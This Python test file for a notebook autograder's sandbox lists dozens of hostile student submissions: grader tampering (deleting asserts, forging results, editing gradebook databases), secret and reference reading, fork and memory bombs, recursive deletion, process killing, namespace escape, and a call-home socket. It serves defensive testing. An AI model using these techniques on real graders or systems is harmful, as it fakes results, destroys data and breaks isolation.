"""Submissions that attack the mark, the grader, the instructor or the other students.  Numbers are those of the list in
the instructor's chapter; each is invented here, and small.

An attack is a cell put at the top of an otherwise blank notebook (`cell`), or changes to the notebook, or to the folder
it is handed in with.  `points` is what it must get: nothing, or what honest answers in it are worth.
"""

# ruff: noqa: E501  (each attack is a text; broken into lines it could not be read as the student would write it)
from __future__ import annotations

import os
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

from sample_class.answers import FORGED_RESULT, LOOPS, REPLACED_DO_EXECUTE, REPLACED_RUN_CELL
from sample_class.students import (
    NOTHING,
    Change,
    Student,
    add_first,
    delete,
    duplicate,
    edit,
    tag_tests,
    write,
)

MARKER = "marking-attack-survivor"  # in the arguments of every process that an attack tries to leave behind
SECRET = "the instructor's secret 8d1f"


@dataclass(frozen=True)
class Attack:
    """`folder` changes the submission's folder once its notebook is written."""

    name: str
    changes: tuple[Change, ...] = ()
    points: Mapping[str, float] | None = None  # None: nothing
    folder: Callable[[Path], None] = lambda folder: None
    file: Callable[[dict], bytes] | None = None

    def student(self) -> Student:
        more = {"file": self.file} if self.file else {}
        return Student(
            self.name, self.changes, NOTHING if self.points is None else self.points, **more
        )


def cell(name: str, text: str) -> Attack:
    return Attack(name, (add_first(text),))


def with_honest_work(name: str, text: str) -> Attack:
    """The attack must not even cost its author the honest answers below it."""
    return Attack(name, (write(LOOPS), add_first(text)), {})


def _deface_metadata(notebook):
    for part in notebook["cells"]:
        if "nbgrader" in part["metadata"]:
            part["metadata"]["nbgrader"] |= {"grade": False, "points": 100, "solution": True}


def _replace_notebook_by_link(target: str) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        notebook = next(folder.glob("*.ipynb"))
        notebook.unlink()
        notebook.symlink_to(target)

    return change


def _replace_notebook_by_pipe(folder: Path) -> None:
    notebook = next(folder.glob("*.ipynb"))
    notebook.unlink()
    os.mkfifo(notebook)


def _replace_notebook_by_hole(folder: Path) -> None:
    with open(next(folder.glob("*.ipynb")), "wb") as file:
        file.truncate(3 << 30)


def _add_shadows(folder: Path) -> None:
    for name in ("numpy", "json", "base64", "IPython", "ipykernel"):
        (folder / f"{name}.py").write_text("raise SystemExit('shadowed')\n")
    (folder / "sitecustomize.py").write_text("import os; os._exit(1)\n")


def _add_links(folder: Path) -> None:
    (folder / "data.csv").symlink_to("../../../secret.txt")
    (folder / "all").symlink_to("../../..")


def _add_many_files(folder: Path) -> None:
    (folder / "many").mkdir()
    for number in range(3000):
        (folder / "many" / f"{number}.txt").touch()


def _deep_json(notebook) -> bytes:
    return b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"


def _many_cells(notebook) -> bytes:
    return b'{"cells": [' + b'{"cell_type":"code","source":"1","metadata":{}},' * 100_000 + b"{}]}"


ATTACKS: tuple[Attack, ...] = (
    # Those of the list
    cell("01-ast-transformer-deletes-asserts", """
import ast
class Mercy(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Expr(self, node): return ast.Expr(ast.Constant(4.0))
get_ipython().ast_transformers.append(Mercy())
"""),
    cell("02-input-transformer-blanks-tests", """
get_ipython().input_transformers_cleanup.append(lambda lines: [] if any("check" in line for line in lines) else lines)
"""),
    cell("03-patched-numpy-testing", """
import numpy as np, numpy.testing
for name in ("assert_allclose", "assert_array_equal", "assert_equal"):
    setattr(np.testing, name, lambda *a, **k: None)
np.allclose = np.array_equal = lambda *a, **k: True
"""),
    Attack("04-array-that-equals-everything", (write({name: """
class Liar(np.ndarray):
    def __array_function__(self, f, types, args, kwargs): return True
    def __array_ufunc__(self, *a, **k): return np.True_
    def __eq__(self, other): return np.True_
    def tobytes(self, *a): return b""
def NAME(*args): return np.zeros(np.shape(args[0])).view(Liar)
""".replace("NAME", name) for name in LOOPS}),)),
    cell("05-pre-run-cell-forges-a-result", FORGED_RESULT),
    cell("06-replaced-run-cell", REPLACED_RUN_CELL),
    cell("07-replaced-do-execute", REPLACED_DO_EXECUTE),
    cell("08-errors-silenced", """
shell = get_ipython()
shell.showtraceback = lambda *a, **k: None
shell.events.register("post_run_cell", lambda result: (setattr(result, "error_in_exec", None), setattr(result, "result", 4.0)))
"""),
    cell("09-float-formatter", """
get_ipython().display_formatter.formatters["text/plain"].for_type(float, lambda x, p, c: p.text("4.0"))
"""),
    cell("10-reads-the-reference", """
import glob, os
for pattern in ("/root/**/convolution.py", "/home/**/convolution.py", "/usr/**/convtranspose/**", "/tmp/**/solutions/**"):
    for path in glob.glob(pattern, recursive=True): print("FOUND", path)
print("looked")
"""),
    Attack("11-looks-for-expected-values-in-frames", (write({name: """
import gc, sys
def NAME(*args):
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            if isinstance(value, dict) and "expected" in value: return value["expected"]
            if hasattr(value, "reference"): return value.reference(*args)
        frame = frame.f_back
    for value in gc.get_objects():
        if type(value).__name__ == "Question": return value.reference(*args)
    return np.zeros(np.shape(args[0]))
""".replace("NAME", name) for name in LOOPS}),)),
    cell("12-writes-to-the-gradebook", """
import os, sqlite3
for place, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "usr")]
    for name in files:
        if name.endswith(".db"):
            try: sqlite3.connect(os.path.join(place, name)).execute("UPDATE grade SET auto_score = 4"); print("FOUND", place)
            except Exception: pass
"""),
    Attack("13-shadowing-modules", (write(LOOPS),), {}, folder=_add_shadows),
    cell("14-writes-into-another-submission", """
import os
for path in ("/submission/..", "../../honest-00/rotated-kernel", "/tmp/submitted/honest-00"):
    try: open(os.path.join(path, "rotated-kernel.ipynb"), "w").write("{}")
    except OSError: pass
"""),
    cell("15-appends-to-the-configuration", """
import os
for place, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "usr")]
    if "nbgrader_config.py" in files:
        print("FOUND", place)
        try: open(os.path.join(place, "nbgrader_config.py"), "a").write("raise SystemExit")
        except OSError: pass
"""),
    cell("16-ipython-start-up-files", """
import os
for home in (os.path.expanduser("~"), os.environ.get("IPYTHONDIR", ""), "/root", "/tmp/home"):
    try:
        folder = os.path.join(home, "profile_default", "startup")
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, "00.py"), "w").write("import os; os._exit(1)")
    except OSError: pass
"""),
    Attack("17-leaks-what-is-asked", (write({name: """
def NAME(*args, **kwargs):
    import gc, inspect
    print("ASKED", [inspect.getsource(f) for f in gc.get_objects() if inspect.isfunction(f) and f.__name__ == "examine"])
    raise RuntimeError(repr([frame.frame.f_locals for frame in inspect.stack()])[:10_000])
""".replace("NAME", name) for name in LOOPS}),)),
    with_honest_work("18-script-in-outputs", """
from IPython.display import HTML, display
display(HTML("<script>fetch('http://127.0.0.1')</script><img src=x onerror=alert(1)>"))
"""),
    Attack("19-links-to-the-instructors-files", (write(LOOPS), add_first("import os; print(os.listdir('.')); print(open('data.csv').read())")), {}, folder=_add_links),
    with_honest_work("20-detached-child", f"""
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{MARKER}"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{MARKER}"])
    os._exit(0)
"""),
    with_honest_work("21a-os-exit", "import os; os._exit(0)"),
    with_honest_work("21b-quit", "quit()"),
    Attack("21c-loop-that-swallows-interrupts", (write(LOOPS), edit("zero_pad", "while True:\n    try:\n        while True: pass\n    except BaseException: pass")), {"zero_pad": 0}),
    with_honest_work("22-flood-of-output", "import sys\nwhile True:\n    print('x' * 100_000); sys.stdout.flush()"),
    with_honest_work("22b-flood-of-displays", "from IPython.display import display\nwhile True:\n    display({'text/plain': 'x' * 1_000_000}, raw=True)"),
    with_honest_work("23a-memory-bomb", "keep = []\nwhile True:\n    keep.append(bytearray(50 << 20))"),
    with_honest_work("23b-fork-bomb", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    with_honest_work("23c-forked-memory-bomb", "import os, time\nfor _ in range(40):\n    if os.fork() == 0:\n        x = b'x' * (300 << 20); time.sleep(600)\ntime.sleep(600)"),
    Attack("24-duplicated-test-cell", (write(LOOPS), duplicate("test_zero_pad"), duplicate("test_rotate180")), {}),
    Attack("25a-changed-metadata", (write({"zero_pad": LOOPS["zero_pad"]}), _deface_metadata), NOTHING | {"zero_pad": 2}),
    Attack("25b-deleted-tests", (delete("test_zero_pad"), delete("test_rotate180"))),
    Attack("25c-edited-test", (edit("test_zero_pad", "2.0"), edit("test_rotate180", "from IPython.display import display\n2.0"))),
    Attack("25d-reversed-order", (write(LOOPS), lambda notebook: notebook["cells"].reverse()), {}),
    Attack("25e-empty-file", file=lambda notebook: b""),
    Attack("25f-version-99", (write(LOOPS), lambda notebook: notebook.update(nbformat=99, nbformat_minor=1)), {}),
    Attack("26-skip-execution", (tag_tests("skip-execution"),)),
    Attack("27-link-to-the-gradebook", folder=_replace_notebook_by_link("../../../gradebook.db")),
    with_honest_work("28-removes-everything", """
import os, shutil
for path in ("/", "/tmp", "/submission", "/root", os.path.expanduser("~"), "..", "../.."):
    for name in os.listdir(path) if os.path.isdir(path) and os.access(path, os.R_OK) else []:
        if name not in ("proc", "dev", "sys"): shutil.rmtree(os.path.join(path, name), ignore_errors=True)
"""),
    with_honest_work("29-kills-the-grader", """
import os, signal
for process in (os.getppid(), 1, -1, *range(2, 3000)):
    if process != os.getpid() and process not in {int(t) for t in (os.listdir("/proc/self/task") if os.path.exists("/proc/self/task") else [])}:
        try: os.kill(process, signal.SIGKILL if process <= 1 or process == os.getppid() else 0)
        except OSError: pass
"""),
    Attack("30-imports-the-reference", (write({name: f"""
import sys
sys.meta_path[:] = [finder for finder in sys.meta_path if "Unavailable" not in type(finder).__name__]
def {name}(*args):
    import convtranspose.convolution
    return convtranspose.convolution.{name}(*args)
""" for name in LOOPS}),)),
    cell("31-result-from-a-thread-after-the-time", """
import os, subprocess, sys, threading, time
def later():
    while True:
        time.sleep(0.05)
        get_ipython().channel.send("execute_result", data={"text/plain": "4.0"})
threading.Thread(target=later, daemon=True).start()
"""),
    # and ours
    cell("32-answers-sent-before-they-are-asked", """
import json
channel = get_ipython().channel
for number in range(500):
    channel._request_id = number
    channel.send("done", status="ok", answers=json.dumps([{"value": ["i", "0"]}] * 50))
"""),
    cell("33-every-message-rewritten", """
channel = get_ipython().channel
send = channel._send
def rewritten(kind, content):
    send(kind, {key: value.replace("undefined", "ok") if isinstance(value, str) else value
                for key, value in content.items()})
channel._send = rewritten
"""),
    cell("34-answers-that-are-no-json", """
channel = get_ipython().channel
send = channel._send
channel._send = lambda kind, content: send(kind, content | {key: "[" * 1_000_000 for key in ("answers", "data")})
"""),
    with_honest_work("35-one-huge-message", "from IPython.display import display\ndisplay({'text/plain': 'x' * 300_000_000}, raw=True)"),
    Attack("36-deeply-nested-file", file=_deep_json),
    Attack("37-a-hundred-thousand-cells", file=_many_cells),
    Attack("38-pipe-in-place-of-the-notebook", folder=_replace_notebook_by_pipe),
    Attack("39-hole-of-three-gigabytes", folder=_replace_notebook_by_hole),
    Attack("40-link-to-an-endless-device", folder=_replace_notebook_by_link("/dev/zero")),
    Attack("41-thousands-of-files", (write(LOOPS),), {}, folder=_add_many_files),
    with_honest_work("42-calls-home", """
import socket, urllib.request
for address in (("127.0.0.1", PORT), ("1.1.1.1", 53), ("localhost", PORT)):
    try: socket.create_connection(address, timeout=0.5).send(b"here"); print("FOUND", address)
    except OSError: pass
"""),
    with_honest_work("43-reads-the-environment-of-others", f"""
import glob, os
print({SECRET[:10]!r} in str(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        if {SECRET.encode()[4:20]!r} in open(path, "rb").read(): print("FOUND", path)
    except OSError: pass
"""),
    with_honest_work("44-escapes-by-mounts-and-namespaces", """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for path in (b"/tmp", b"/submission", b"/proc", b"/"): libc.umount2(path, 2)
libc.unshare(0x10000000 | 0x00020000)
libc.mount(b"proc", b"/proc", b"proc", 0, None)
for path in (b"/tmp", b"/submission", b"/proc"): libc.umount2(path, 2)
libc.chroot(b"/proc/1/root")
for place, folders, files in os.walk("/tmp"):
    for name in files:
        if name in ("secret.txt", "gradebook.db", "nbgrader_config.py"): print("FOUND", place, name)
"""),
    with_honest_work("45-looks-into-process-1", """
import ctypes, os
print(ctypes.CDLL(None, use_errno=True).ptrace(16, 1, None, None))
for name in ("mem", "environ", "maps", "root/tmp", "cwd", "fd"):
    try: print("FOUND", open(f"/proc/1/{name}", "rb").read(10) if name in ("mem", "environ", "maps") else os.listdir(f"/proc/1/{name}"))
    except OSError: pass
"""),
    with_honest_work("46-fills-the-disk", """
import os
try:
    for number in range(10**6):
        with open(f"/tmp/{number}", "wb") as file: file.write(b"x" * (1 << 20))
except OSError: pass
for number in range(1000):
    try: os.remove(f"/tmp/{number}")
    except OSError: break
"""),
    with_honest_work("47-closes-every-handle", "import os; os.closerange(0, 4096)"),
    with_honest_work("48-stops-itself", "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)"),
    with_honest_work("49-terminal-codes-in-an-error", "class E(Exception): pass\nraise E('\\x1b]0;owned\\x07\\x1b[2J\\r' * 50 + '\\ud800')"),
    Attack("50-terminal-codes-in-a-verdict", (write({"zero_pad": "def zero_pad(x, p):\n    raise ValueError('\\x1b[2J\\x1b]0;owned\\x07<b>&' * 10 + '\\ud800')"}),)),
    Attack("51-answers-that-never-end", (write({name: f"""
class Endless(list):
    def __iter__(self):
        while True: yield 1.0
    def __len__(self): return 10**9
def {name}(*args): return Endless([1.0])
""" for name in LOOPS}),)),
    Attack("52-answers-of-a-terabyte", (write({name: f"def {name}(*args): return np.broadcast_to(1.0, (10**6, 10**6))" for name in LOOPS}),)),
    Attack("53-right-only-when-nobody-looks-twice", (write({"rotate180": LOOPS["rotate180"] + """
asked = 0
honest = rotate180
def rotate180(h):
    global asked
    asked += 1
    return honest(h) if asked % 3 else honest(h) + 1
"""}),)),
    Attack("54-array-that-changes-later", (write({"rotate180": """
shared = None
def rotate180(h):
    global shared
    shared = np.zeros((64, 64)) if shared is None else shared
    out = shared[: h.shape[0], : h.shape[1]]
    out[...] = h[::-1, ::-1]
    return out
"""}),), NOTHING | {"rotate180": 1}),  # the values were right when they came; the point for the contract is lost
    with_honest_work("55-signals-the-warm-process", """
import os, signal
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGSTOP):
    try: os.kill(1, number)
    except OSError: pass
"""),
    with_honest_work("56-sockets-of-other-kernels", """
import glob, socket
own = get_ipython().config.IPKernelApp.connection_file
for path in glob.glob("/tmp/**/*-[1-5]", recursive=True):
    if not path.startswith(own.rsplit("/", 1)[0]): print("FOUND", path)
"""),
    # each attack stands as the student would write it
)  # fmt: skip
